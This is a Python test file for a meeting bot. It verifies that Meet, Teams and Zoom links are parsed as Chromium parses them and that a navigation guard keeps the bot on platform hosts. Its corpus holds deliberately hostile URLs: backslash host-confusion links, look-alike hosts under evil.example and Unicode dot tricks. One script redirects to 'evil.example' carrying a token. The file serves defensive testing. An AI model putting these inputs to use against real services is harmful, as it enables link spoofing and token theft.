"""Meeting links are read as Chromium reads them, and the bot's page stays on its platform.

A corpus of links that URL parsers read differently (backslashes, tabs, escapes, user info, ports,
Unicode and punycode hosts, trailing dots, missing slashes) goes through our check
(functions/common/platforms.py) and through Chromium's own parser (`new URL()` in the bot's
browser). Every link we accept must be the same URL to Chromium: the host we decided, no user
info or port, and the link we rebuild for the bot must come back unchanged. Then the bot's
NavigationGuard (bot/browser/navigation.py) against the simulators: what leaves the platform's
hosts in the main frame is stopped, by script or by redirect.
"""
from __future__ import annotations

from typing import Iterator
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import BrowserContext, Page

from bot.browser.adapters import ADAPTERS, JoinError, ZoomAdapter
from bot.browser.navigation import NavigationGuard
from bot.browser.spec import load_spec
from functions.common.platforms import MeetingLinkError, Platform, parse_meeting_link, platform_of_host, resolve_meeting
from local.simulators.control import Simulator
from tests.support.browser import bot_browser

MEET, TEAMS, ZOOM, FILE = Platform.GOOGLE_MEET, Platform.TEAMS, Platform.ZOOM, Platform.FILE
REFUSED = "refused"  # resolve_meeting(None, link) raises MeetingLinkError, naming meeting_url
TEAMS_JOIN = "https://teams.microsoft.com/l/meetup-join/19%3ameeting_NjQ5%40thread.v2/0?context=%7b%22Tid%22%3a%22a%22%7d"

# (link, what resolve_meeting makes of it with no platform named). FILE: no meeting link to
# anyone's reading; it goes on as a recording, for RECORDING_SOURCES to judge.
CORPUS: list[tuple[str, object]] = [
    # Google Meet
    ("https://meet.google.com/abc-defg-hij", MEET),
    ("https://meet.google.com/abc-defg-hij?authuser=1&hs=122", MEET),
    ("https://MEET.Google.COM/abc-defg-hij", MEET),
    ("HTTPS://meet.google.com/abc-defg-hij", MEET),
    ("https://meet.google.com", MEET),
    ("https://meet.google.com/abc-defg-hij#x", MEET),
    ("https://meet.google.com/abc-defg-hij@127.0.0.1", MEET),  # "@" in the path: still Meet's path
    ("https://meet.google.com//127.0.0.1:9/abc", MEET),
    ("https://127.0.0.1:9\\@meet.google.com/abc-defg-hij", REFUSED),  # issue 17 §3
    ("https://meet.google.com\\@127.0.0.1/abc-defg-hij", REFUSED),
    ("https://meet.google.com:8443/abc-defg-hij", REFUSED),
    ("https://meet.google.com:443/abc-defg-hij", REFUSED),
    ("https://user:pass@meet.google.com/abc-defg-hij", REFUSED),
    ("https://meet.google.com@127.0.0.1/abc-defg-hij", FILE),  # 127.0.0.1 to every parser
    ("https://meet%2egoogle.com/abc-defg-hij", REFUSED),
    ("https://meet.goo\tgle.com/abc-defg-hij", REFUSED),
    ("https://meet.google\n.com/abc-defg-hij", REFUSED),
    ("https://meet\u3002google\u3002com/abc-defg-hij", REFUSED),  # ideographic full stops
    ("https://meet\uff0egoogle\uff0ecom/abc-defg-hij", REFUSED),  # full-width full stops
    ("https://\uff4d\uff45\uff45\uff54.google.com/abc-defg-hij", REFUSED),  # full-width letters
    ("https://meet.goo\u00adgle.com/abc-defg-hij", REFUSED),  # a soft hyphen, which IDNA drops
    ("https://meet.google.com\u200b/abc-defg-hij", REFUSED),  # a zero-width space
    ("https://meet.google.com./abc-defg-hij", REFUSED),
    ("https://meet.google.com../abc-defg-hij", REFUSED),
    ("https:meet.google.com/abc-defg-hij", REFUSED),
    ("https:/meet.google.com/abc-defg-hij", REFUSED),
    ("https:///meet.google.com/abc-defg-hij", REFUSED),
    ("https:\\\\meet.google.com/abc-defg-hij", REFUSED),
    ("https://\\meet.google.com/abc-defg-hij", REFUSED),
    ("//meet.google.com/abc-defg-hij", REFUSED),
    ("meet.google.com/abc-defg-hij", REFUSED),
    ("http://meet.google.com/abc-defg-hij", REFUSED),
    ("wss://meet.google.com/abc-defg-hij", REFUSED),
    ("https://meet.google.com/abc/../def", REFUSED),
    ("https://meet.google.com/%2e%2E/abc-defg-hij", REFUSED),
    ("https://meet.google.com/abc defg", REFUSED),
    ("https://meet.google.com/abc%zz", REFUSED),
    ("https://meet.google.com.evil.example/abc-defg-hij", FILE),
    ("https://[::1]/abc-defg-hij", FILE),
    ("https://0x7f000001/meet.google.com", FILE),
    # Teams
    (TEAMS_JOIN, TEAMS),
    ("https://teams.live.com/meet/9358812345678?p=abcDEF", TEAMS),
    ("https://teams.microsoft.com/l/meetup-join/19:meeting_abc@thread.v2/0", TEAMS),
    ("https://teams.cloud.microsoft/meet/9358812345678", TEAMS),
    ("https://TEAMS.live.com/meet/1", TEAMS),
    ('https://teams.microsoft.com/l/meetup-join/x?context={"Tid":"a"}', REFUSED),  # must be percent-encoded
    ("https://teams.microsoft.com:8080/l/meetup-join/x", REFUSED),
    ("https://teams.microsoft.com\\@127.0.0.1/", REFUSED),
    ("https://127.0.0.1\\@teams.microsoft.com/l/meetup-join/x", REFUSED),
    ("https://teams.microsoft.com\t/l/meetup-join/x", REFUSED),
    ("https://teams.microsoft.com./l/meetup-join/x", REFUSED),
    ("https://teams.live.com/meet/1?p=a'b", REFUSED),  # Chromium would send %27
    ("https://teams.live.com%3a8443/meet/1", REFUSED),
    ("https://teams.live.com.evil.example/meet/1", FILE),
    # Zoom
    ("https://zoom.us/j/85123456789?pwd=aBc123", ZOOM),
    ("https://us02web.zoom.us/j/85123456789", ZOOM),
    ("https://app.zoom.us/wc/85123456789/join?pwd=x", ZOOM),
    ("https://app.zoom.us/wc/join/85123456789", ZOOM),
    ("https://zoomgov.com/j/1", ZOOM),
    ("https://ZOOM.US/J/1", ZOOM),
    ("https://zoom.us?pwd=x", ZOOM),
    ("https://zoom.us/j/1?pwd=a#frag", ZOOM),
    ("https://zoom.us/j/1%0a", ZOOM),  # an escaped newline stays escaped
    ("https://127.0.0.1:9\\@app.zoom.us/wc/1/join", REFUSED),
    ("https://app.zoom.us:8443/wc/1/join", REFUSED),
    ("https://x:y@zoom.us/j/1", REFUSED),
    ("https://zoom%2eus/j/1", REFUSED),
    ("https://xn--zom-qla.zoom.us/j/1", REFUSED),  # punycode
    ("https://z\u00f6om.zoom.us/j/1", REFUSED),  # its Unicode form
    ("https://zoom.us./j/1", REFUSED),
    ("https://zoom\u3002us/j/1", REFUSED),
    ("https://a_b.zoom.us/j/1", REFUSED),
    ("https://-x.zoom.us/j/1", REFUSED),
    ("https:zoom.us/j/1", REFUSED),
    ("https://zoom.us/j/1\r\n", REFUSED),
    (" https://zoom.us/j/1", REFUSED),  # the API strips it first; here it is the link itself
    ("https://zoom.us/j/1?pwd=%41%zz", REFUSED),
    ("https://zoom.us/j/1?x=`", REFUSED),
    ("https://zoom.us.evil.example/j/1", FILE),
    ("https://notzoom.us/j/1", FILE),
]
# What Chromium makes of a link: null if it cannot parse it.
READ_URL = """links => links.map((s) => {
    try { const u = new URL(s); return {protocol: u.protocol, hostname: u.hostname, port: u.port,
                                        username: u.username, password: u.password, href: u.href}; }
    catch (e) { return null; }
})"""


@pytest.fixture(scope="module")
def sim_browser(simulator: Simulator) -> Iterator[BrowserContext]:
    """The bot's browser (its flags and context), the platforms' hosts and one other
    (evil.example) leading to the simulator. One per module: Playwright's sync API runs one at a time."""
    with bot_browser(f"{simulator.host_rules}, MAP evil.example 127.0.0.1:{simulator.port}") as context:
        yield context


@pytest.fixture(scope="module")
def blank_page(sim_browser: BrowserContext) -> Iterator[Page]:
    """A page of the bot's Chromium, for its URL parser."""
    page = sim_browser.new_page()
    yield page
    page.close()


def ours(link: str):
    try:
        return parse_meeting_link(link)
    except MeetingLinkError:
        return None


def test_the_corpus_is_broad() -> None:
    assert len(CORPUS) >= 40
    assert len({link for link, _ in CORPUS}) == len(CORPUS)
    for platform in (MEET, TEAMS, ZOOM):
        assert any(verdict == platform for _, verdict in CORPUS)


@pytest.mark.parametrize("link, verdict", CORPUS, ids=[repr(link)[1:-1][:60] for link, _ in CORPUS])
def test_each_link_gets_its_verdict(link: str, verdict: object) -> None:
    if verdict == REFUSED:
        with pytest.raises(MeetingLinkError, match="^meeting_url is not a"):
            resolve_meeting(None, link, "m")
    else:
        platform, opened = resolve_meeting(None, link, "m")
        assert platform == verdict
        if verdict != FILE:
            assert opened == parse_meeting_link(link).href


def test_chromium_reads_every_accepted_link_as_we_do(blank_page: Page) -> None:
    links = [link for link, _ in CORPUS]
    read = dict(zip(links, blank_page.evaluate(READ_URL, links)))
    accepted = {link: parsed for link in links if (parsed := ours(link)) is not None}
    rebuilt = dict(zip(accepted, blank_page.evaluate(READ_URL, [parsed.href for parsed in accepted.values()])))
    for link, verdict in CORPUS:
        chromium = read[link]
        if chromium is None:  # Chromium cannot open it: neither may we
            assert link not in accepted, link
            continue
        if link not in accepted:
            assert verdict in (REFUSED, FILE), link
            continue
        parsed = accepted[link]
        same_url = {"protocol": "https:", "hostname": parsed.host, "port": "", "username": "", "password": ""}
        assert {k: v for k, v in chromium.items() if k != "href"} == same_url, link
        assert chromium["href"] == parsed.href, link  # the link as given means the link as rebuilt
        assert rebuilt[link] == chromium, link  # and that comes back unchanged
        if verdict != FILE:
            assert platform_of_host(chromium["hostname"]) == verdict, link
    assert sum(verdict in (MEET, TEAMS, ZOOM) for verdict in (v for _, v in CORPUS)) >= 15
    # The parser-differential links themselves: Chromium reads a host other than Python's urlsplit.
    differing = [link for link, _ in CORPUS if read[link] and _urlsplit_host(link) != read[link]["hostname"]]
    assert "https://127.0.0.1:9\\@meet.google.com/abc-defg-hij" in differing
    assert all(link not in accepted for link in differing), differing


def test_the_zoom_web_client_link_the_bot_opens_is_chromiums_too(blank_page: Page) -> None:
    adapter = ZoomAdapter(load_spec("zoom"), step_seconds=10)
    opened = [adapter.meeting_link(link) for link, verdict in CORPUS if verdict == ZOOM]
    for link, chromium in zip(opened, blank_page.evaluate(READ_URL, opened)):
        assert chromium["href"] == link and chromium["hostname"].endswith("zoom.us") and chromium["port"] == ""


def _urlsplit_host(link: str) -> str | None:
    try:
        return urlsplit(link).hostname
    except ValueError:
        return None


# ---- the bot's page stays on the platform's hosts ----------------------------------------------------


def test_a_refused_link_is_never_opened(sim_browser: BrowserContext) -> None:
    page = sim_browser.new_page()
    adapter = ADAPTERS[MEET](load_spec("google_meet"), step_seconds=5)
    with pytest.raises(JoinError, match="backslash") as refused:
        adapter.join(page, "https://127.0.0.1:9\\@meet.google.com/abc-defg-hij", "Vexa Notetaker", lambda: False)
    assert not refused.value.retryable
    assert page.url == "about:blank"
    page.close()


def test_the_main_frame_may_not_leave_the_platform_but_frames_inside_may(sim_browser: BrowserContext) -> None:
    page = sim_browser.new_page()
    guard = NavigationGuard(MEET)
    guard.watch(page)
    page.goto("https://meet.google.com/abc-defg-hij")
    page.evaluate("""() => { const f = document.createElement('iframe'); f.src = 'https://evil.example/embedded';
                             document.body.append(f); }""")
    for _ in range(50):
        if any(frame.url == "https://evil.example/embedded" for frame in page.frames):
            break
        page.wait_for_timeout(100)
    assert [frame.url for frame in page.frames][1:] == ["https://evil.example/embedded"]
    assert guard.refused is None  # only the main frame is kept on the platform

    page.evaluate("location.href = 'https://evil.example/elsewhere?token=secret'")
    page.wait_for_timeout(1000)
    assert guard.refused is not None and "https://evil.example" in guard.refused and "secret" not in guard.refused
    assert not page.url.startswith("https://evil.example")
    adapter = ADAPTERS[MEET](load_spec("google_meet"), step_seconds=5)
    adapter.guard = guard
    with pytest.raises(JoinError, match="tried to leave google_meet's hosts"):
        adapter.check_navigation()
    page.close()


def test_a_redirect_off_the_platform_is_stopped_too(sim_browser: BrowserContext) -> None:
    class ZoomUsOnly(NavigationGuard):  # so that the simulator's zoom.us -> app.zoom.us redirect leaves it
        def allows(self, url: str) -> bool:
            return urlsplit(url).hostname == "zoom.us"

    page = sim_browser.new_page()
    guard = ZoomUsOnly(ZOOM)
    guard.watch(page)
    with pytest.raises(Exception, match="ERR_BLOCKED_BY_CLIENT"):
        page.goto("https://zoom.us/j/81234567890")
    assert guard.refused is not None and "https://app.zoom.us" in guard.refused
    page.close()
